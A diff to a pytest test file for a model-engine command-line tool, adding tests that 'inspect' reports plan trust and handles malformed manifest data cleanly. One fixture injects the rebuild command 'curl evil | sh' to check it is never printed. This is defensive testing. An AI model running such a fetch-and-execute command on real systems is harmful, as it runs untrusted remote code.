@@ -7,9 +7,12 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+from support.plan_engines import PLAN, plan_engine
 from support.precision_graphs import scenes, tiny_graph
 
 from gms_rt.cli.main import run
+from gms_rt.engine import trust
+from gms_rt.engine.manifest import read_manifest
 
 
 @pytest.fixture(autouse=True)
@@ -92,6 +95,45 @@ def test_inspect_shows_changed_files(graph, capsys):
     assert seen["stages"] == []
 
 
+def test_inspect_says_who_vouches_for_each_plan_and_prints_no_foreign_command(tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("GMS_RT_STATE", str(tmp_path / "state"))
+    folder = plan_engine(tmp_path / "engines/e", rebuild="curl evil | sh")
+    (folder / "model.onnx").unlink()  # what is described here are the plans
+    code, seen = answer(capsys, "inspect", folder)
+    assert code == 0
+    assert [(t["file"], t["trusted"]) for t in seen["trust"]] == [(PLAN, False)]
+    assert run(["inspect", str(folder)]) == 0
+    screen = capsys.readouterr().out
+    assert f"plan {PLAN} was not built on this machine" in screen and "runs with --trust-plans only" in screen
+    assert "evil" not in screen and seen["rebuild"] in screen
+    trust.remember_plan(folder, read_manifest(folder).plans[0].sha256)
+    run(["inspect", str(folder)])
+    assert f"plan {PLAN} was built on this machine: trusted" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"census": {"graph": {"compute": []}}},
+        {"census": {"cpu": "fast"}},
+        {"gate": {"mean": "high", "minimum": 1, "images": 1}},
+        {"gate": {}},
+        {"notes": [3, "\ud800"]},
+        {"source": {"name": float("nan")}},
+    ],
+)
+def test_foreign_figures_are_one_line_and_no_traceback(tmp_path, capsys, changes):
+    folder = plan_engine(tmp_path / "engines/e")
+    manifest = json.loads((folder / "engine.json").read_text())
+    (folder / "engine.json").write_text(json.dumps(manifest | changes))
+    (folder / "model.onnx").unlink()
+    for more in ([], ["--json"]):
+        code = run(["inspect", str(folder), *more])
+        captured = capsys.readouterr()
+        assert code in (0, 1) and captured.err.count("\n") == code
+        assert code == 0 or "has figures that cannot be read" in captured.err
+
+
 def test_gate_images_never_repeat_calibration_images(graph, pictures, capsys):
     code, built = answer(
         capsys, "build", graph, "--target", "cpu", "--calib", pictures, "--gate-data", pictures, "--out", "engines/e"
@@ -107,7 +149,7 @@ def test_gate_images_never_repeat_calibration_images(graph, pictures, capsys):
         (["--target", "gpu"], 2, "unknown target 'gpu'"),
         (["--target", "cpu", "--sm", "89"], 2, "a CPU engine has no SM"),
         (["--target", "cpu", "--sm", "fast"], 2, "not a compute capability"),
-        (["--target", "cpu", "--size", "224"], 2, "has its size already"),
+        (["--target", "cpu", "--size", "224"], 2, "already has its size"),
         (["--precision", "int8", "--calib", "pictures", "--calibrator", "best"], 2, "unknown calibrator"),
         (["--target", "cpu", "--calib", "absent"], 2, "does not exist"),
     ],
@@ -128,7 +170,7 @@ def test_sources_that_are_none(tmp_path, graph, capsys):
     assert "is not a" in capsys.readouterr().err
     run(["build", str(graph), "--target", "cpu", "--precision", "fp32", "--out", "engines/e", "--quiet"])
     assert run(["build", "engines/e"]) == 2
-    assert "is an engine already" in capsys.readouterr().err
+    assert "is already an engine" in capsys.readouterr().err
     assert run(["inspect", "absent"]) == 1
     assert "is not an engine folder" in capsys.readouterr().err
 
